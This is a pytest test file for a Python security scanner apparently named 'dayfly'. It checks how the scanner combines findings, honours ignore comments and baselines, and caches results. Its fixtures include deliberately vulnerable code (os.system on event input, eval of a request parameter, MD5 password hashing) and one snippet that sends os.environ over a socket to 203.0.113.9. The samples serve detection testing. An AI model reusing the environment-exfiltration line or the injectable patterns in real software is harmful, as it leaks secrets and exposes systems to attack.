"""A scan is the sum of its families, whatever breaks in one; what was found is judged by comments, baseline, change."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from tests.scan.faking import Fake

from dayfly.errors import DayflyError
from dayfly.scan.model import NoteKind, Severity
from dayfly.scan.report.differences import Change
from dayfly.scan.report.document import as_json
from dayfly.scan.report.outcome import Outcome, Standing
from dayfly.scan.report.selection import Selection
from dayfly.scan.scanning import Options, scan

TODAY = date(2026, 11, 25)
FILES = {
    "app.py": "import helper\n\ndef handler(event, context):\n    run(event)  # finds event.command\n",
    "helper.py": "query(1)  # finds event.sql\nmd5(1)  # finds weak.hash\n",
    "requirements.py": "x  # finds dependency.unlocked\n",
}


@pytest.fixture
def write(tmp_path: Path) -> Callable[[dict[str, str]], Path]:
    def make(files: dict[str, str]) -> Path:
        for name, text in files.items():
            path = tmp_path / "code" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        return tmp_path / "code"

    return make


Writer = Callable[[dict[str, str]], Path]


def options(base: Path, **changes: object) -> Options:
    return replace(Options(base=base, today=TODAY), **changes)  # type: ignore[arg-type]  # a test's shorthand


def found(outcome: Outcome, standing: Standing = Standing.OPEN) -> list[tuple[str, str]]:
    return sorted((item.finding.check, str(item.finding.place)) for item in outcome.having(standing))


def test_the_families_findings_are_put_together(write: Writer) -> None:
    folder = write(FILES)
    outcome = scan([folder], options(folder), families=Fake().families())
    assert found(outcome) == [
        ("dependency.unlocked", "requirements.py:1"),
        ("event.command", "app.py:4"),
        ("event.sql", "helper.py:1"),
        ("weak.hash", "helper.py:2"),
    ]
    assert outcome.functions == ("app",)
    assert (outcome.files, outcome.lines) == (3, 7)
    assert outcome.line("helper.py", 1) == "query(1)  # finds event.sql"


def test_paths_are_seen_from_the_working_directory(write: Writer) -> None:
    folder = write(FILES)
    outcome = scan([folder], options(folder.parent), families=Fake().families())
    assert ("event.sql", "code/helper.py:1") in found(outcome)
    assert outcome.line("code/helper.py", 1)
    outside = scan([folder], options(folder / "elsewhere"), families=Fake().families())
    assert ("event.sql", f"{folder}/helper.py:1") in found(outside)


def test_several_paths_are_one_result(write: Writer) -> None:
    folder = write({"a/app.py": FILES["app.py"], "b/helper.py": FILES["helper.py"]})
    outcome = scan([folder / "a", folder / "b" / "helper.py"], options(folder), families=Fake().families())
    assert found(outcome) == [("event.command", "a/app.py:4"), ("weak.hash", "b/helper.py:2")]


@pytest.mark.parametrize("where", ["file", "entry", "project"])
@pytest.mark.parametrize(("how", "kind"), [("breaks", NoteKind.NOT_ANALYSABLE), ("nests", NoteKind.BOUNDED)])
def test_what_breaks_costs_itself_alone_and_is_named(
    write: Writer, where: str, how: str, kind: NoteKind
) -> None:
    hostile = f"def handler(event, context):\n    pass  # {how} {where}\n"
    folder = write({**FILES, "zz.py": hostile})
    outcome = scan([folder], options(folder), families=Fake().families())
    assert [note.kind for note in outcome.notes] == [kind]
    assert outcome.faults == (how == "breaks")
    assert {check for check, _ in found(outcome)} >= {"event.command", "event.sql", "weak.hash"}


def test_a_broken_template_does_not_hide_the_code(write: Writer) -> None:
    def broken(project: object) -> tuple[()]:
        raise ZeroDivisionError

    folder = write(FILES)
    outcome = scan([folder], options(folder), families=replace(Fake().families(), read_templates=broken))
    assert ("weak.hash", "helper.py:2") in found(outcome)
    assert outcome.faults == 1


def test_syntax_of_another_python_is_named_once(write: Writer) -> None:
    folder = write({**FILES, "new.py": "match = def\n"})
    outcome = scan([folder], options(folder), families=Fake().families())
    assert [(note.kind, note.place.path, note.place.line) for note in outcome.notes] == [
        (NoteKind.NOT_ANALYSABLE, "new.py", 1)
    ]


def test_only_and_skip_choose_and_severities_are_set(write: Writer) -> None:
    folder = write(FILES)
    fake = Fake()
    outcome = scan([folder], options(folder, selection=Selection(only=("weak",))), families=fake.families())
    assert found(outcome) == [("weak.hash", "helper.py:2")]
    outcome = scan([folder], options(folder, selection=Selection(skip=("event",))), families=fake.families())
    assert {check for check, _ in found(outcome)} == {"dependency.unlocked", "weak.hash"}
    low = Selection(severities={"weak": Severity.LOW})
    outcome = scan([folder], options(folder, selection=low), families=fake.families())
    assert [item.finding.severity for item in outcome.open if item.finding.check == "weak.hash"] == [
        Severity.LOW
    ]


def test_a_family_of_which_nothing_is_wanted_is_not_run(write: Writer) -> None:
    folder = write(FILES)
    fake = Fake()
    scan([folder], options(folder, selection=Selection(only=("dependency",))), families=fake.families())
    assert (fake.files, fake.entries) == ([], [])


IGNORED = "query(1)  # finds event.sql  # dayfly: ignore[event.sql] until 2027-01-31: a constant\n"


def test_an_ignore_comment_takes_a_finding_out_and_keeps_its_reason(write: Writer) -> None:
    folder = write({**FILES, "helper.py": IGNORED})
    outcome = scan([folder], options(folder), families=Fake().families())
    (item,) = outcome.having(Standing.SUPPRESSED)
    assert (item.finding.check, item.reason, item.until) == ("event.sql", "a constant", date(2027, 1, 31))
    assert outcome.notes == ()


@pytest.mark.parametrize(
    ("text", "today", "said"),
    [
        (IGNORED, date(2027, 2, 1), "expired on 2027-01-31"),
        (IGNORED.replace("finds event.sql", ""), TODAY, "suppresses nothing"),
        (IGNORED.replace(": a constant", ""), TODAY, "gives no reason"),
    ],
)
def test_an_ignore_comment_that_does_nothing_is_told(
    write: Writer, text: str, today: date, said: str
) -> None:
    folder = write({**FILES, "helper.py": text})
    outcome = scan([folder], replace(options(folder), today=today), families=Fake().families())
    assert [note.kind for note in outcome.notes] == [NoteKind.SUPPRESSION]
    assert said in outcome.notes[0].message
    assert outcome.having(Standing.SUPPRESSED) == ()


def test_an_ignore_comment_for_what_was_not_looked_for_is_not_called_useless(write: Writer) -> None:
    folder = write({**FILES, "helper.py": IGNORED})
    outcome = scan(
        [folder], options(folder, selection=Selection(skip=("event",))), families=Fake().families()
    )
    assert outcome.notes == ()


def test_a_dependency_cannot_silence_the_scan(write: Writer) -> None:
    text = (
        "x  # finds dependency.trojan  # dayfly: ignore[dependency.trojan] until 2027-01-31: nothing to see\n"
    )
    folder = write({**FILES, "python/lib/python3.13/site-packages/evil.py": text})
    outcome = scan([folder], options(folder), families=Fake().families())
    assert "dependency.trojan" in {item.finding.check for item in outcome.open}
    assert "has no effect" in outcome.notes[0].message


def test_a_baseline_takes_findings_out_also_after_lines_moved(write: Writer) -> None:
    folder = write(FILES)
    first = scan([folder], options(folder), families=Fake().families())
    known = frozenset(item.fingerprint for item in first.items)
    write({"helper.py": "# a new line\n" + FILES["helper.py"] + "query(1)  # finds event.sql\n"})
    second = scan([folder], options(folder, known=known), families=Fake().families())
    assert found(second) == [("event.sql", "helper.py:4")]
    assert len(second.having(Standing.KNOWN)) == 4


def test_with_a_change_only_ways_over_changed_lines_count(write: Writer) -> None:
    folder = write(FILES)
    change = Change({"helper.py": (range(2, 3),)})
    outcome = scan([folder], options(folder, change=change), families=Fake().families())
    assert found(outcome) == [("weak.hash", "helper.py:2")]
    assert len(outcome.having(Standing.ELSEWHERE)) == 3


def test_a_handler_that_is_not_there_is_named(write: Writer) -> None:
    folder = write(FILES)
    outcome = scan([folder], options(folder, handlers=("nope.handler",)), families=Fake().families())
    assert [note.message for note in outcome.notes] == ["no nope.handler"]


@pytest.mark.parametrize("files", [{}, {"readme.md": "# x"}, {"data.csv": "1,2"}])
def test_where_there_is_nothing_to_scan_that_is_an_error(tmp_path: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    with pytest.raises(DayflyError, match="nothing to scan"):
        scan([tmp_path], options(tmp_path), families=Fake().families())


def test_a_template_without_functions_is_none(tmp_path: Path) -> None:
    (tmp_path / "x.yaml").write_text("a: 1\n")
    with pytest.raises(DayflyError, match="not a supported template"):
        scan([tmp_path / "x.yaml"], options(tmp_path), families=Fake().families())


def test_a_second_scan_looks_only_at_what_changed(write: Writer, tmp_path: Path) -> None:
    folder = write({**FILES, "other.py": "def handler(event, context):\n    x = 1  # finds event.log\n"})
    chosen = options(folder, cache=tmp_path / "scan.sqlite")
    first = scan([folder], chosen, families=Fake().families())

    fake = Fake()
    again = scan([folder], chosen, families=fake.families())
    assert (fake.files, fake.entries) == ([], [])
    assert again.items == first.items

    write({"helper.py": FILES["helper.py"] + "x = 2\n"})
    fake = Fake()
    assert scan([folder], chosen, families=fake.families()).items == first.items
    assert (fake.files, fake.entries) == (["helper.py"], ["app.py"])

    # A new file that an import of app.py now means.
    write({"helper/__init__.py": "x  # finds event.path\n"})
    (folder / "helper.py").unlink()
    fake = Fake()
    outcome = scan([folder], chosen, families=fake.families())
    assert ("event.path", "helper/__init__.py:1") in found(outcome)
    assert fake.entries == ["app.py"]


@pytest.mark.parametrize("text", ["x", "[]", '[{"findings": []}]', '["{}", {}]', "[1, 2, 3]"])
def test_a_cache_that_was_tampered_with_is_not_believed(write: Writer, tmp_path: Path, text: str) -> None:
    import sqlite3

    folder = write(FILES)
    chosen = options(folder, cache=tmp_path / "scan.sqlite")
    first = scan([folder], chosen, families=Fake().families())
    connection = sqlite3.connect(tmp_path / "scan.sqlite")
    assert connection.execute("UPDATE results SET value = ?", (text,)).rowcount == 4
    connection.commit()
    connection.close()
    assert scan([folder], chosen, families=Fake().families()).items == first.items


def test_what_failed_is_looked_at_again(write: Writer, tmp_path: Path) -> None:
    folder = write({**FILES, "zz.py": "x  # breaks file\n"})
    chosen = options(folder, cache=tmp_path / "scan.sqlite")
    scan([folder], chosen, families=Fake().families())
    fake = Fake()
    outcome = scan([folder], chosen, families=fake.families())
    assert fake.files == ["zz.py"]
    assert outcome.faults == 1


def test_several_processes_find_the_same_as_one(write: Writer) -> None:
    padding = "\n" * 300
    files = {f"a{number:02}.py": FILES["app.py"] + padding for number in range(30)}
    folder = write({**files, **FILES, "bad.py": "def (\n"})
    script = f"""
import json
from datetime import date
from pathlib import Path
from tests.scan.faking import Fake
from dayfly.scan.report.document import as_json
from dayfly.scan.scanning import Options, scan
folder = Path({str(folder)!r})
for jobs in (1, 2):
    outcome = scan([folder], Options(base=folder, today=date(2026, 11, 25), jobs=jobs), families=Fake().families())
    print(json.dumps({{**as_json(outcome), "seconds": 0}}))
"""
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=500, check=False,
        cwd=Path(__file__).parents[2],
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    one, two = done.stdout.splitlines()
    assert one == two
    assert len(json.loads(one)["findings"]) > 60


def test_progress_is_told_of_every_phase(write: Writer) -> None:
    folder = write(FILES)
    told: list[tuple[str, int, int]] = []
    scan([folder], options(folder), families=Fake().families(), progress=lambda *what: told.append(what))
    assert told[0] == ("read", 1, 0)
    assert told[-1] == ("check", 5, 5)


def test_the_result_is_the_same_at_every_scan(write: Writer) -> None:
    folder = write(FILES)
    first, second = (
        {**as_json(scan([folder], options(folder), families=Fake().families())), "seconds": 0}
        for _ in range(2)
    )
    assert first == second


def test_what_all_families_remember_is_what_they_would_find(write: Writer, tmp_path: Path) -> None:
    files = {
        "app.py": "import os, keep\n\n\ndef handler(event, context):\n    keep.add(event)\n    os.system(event['a'])\n",
        "keep.py": "SEEN = []\n\n\ndef add(event):\n    SEEN.append(event['b'])\n    return SEEN\n",
        "web.py": "from flask import Flask, request\napp = Flask('x')\n\n\n@app.get('/')\ndef show():\n    return eval(request.args['q'])\n",
        "tool.py": "import helper\n\nhelper.go()\n",
        "helper.py": "def go():\n    return 1\n",
        "weak.py": "import hashlib\n\n\ndef sign(password):\n    return hashlib.md5(password).hexdigest()\n",
    }
    evil = "import os, socket\n\n\ndef go():\n    socket.create_connection(('203.0.113.9', 80)).send(str(os.environ).encode())\n"
    folder = write(files)
    chosen = options(folder, cache=tmp_path / "scan.sqlite")
    seen: set[str] = set()
    for change in (
        {},
        {},
        {"keep.py": "def add(event):\n    return event\n"},
        {"helper.py": evil},
        {"web.py": ""},
    ):
        write(change)
        remembering = scan([folder], chosen)
        assert remembering.items == scan([folder], options(folder)).items
        assert remembering.faults == 0
        seen.add(" ".join(sorted({item.finding.check for item in remembering.items})))
    assert "event.code event.command state.container weak.hash" in seen
    assert len(seen) > 2
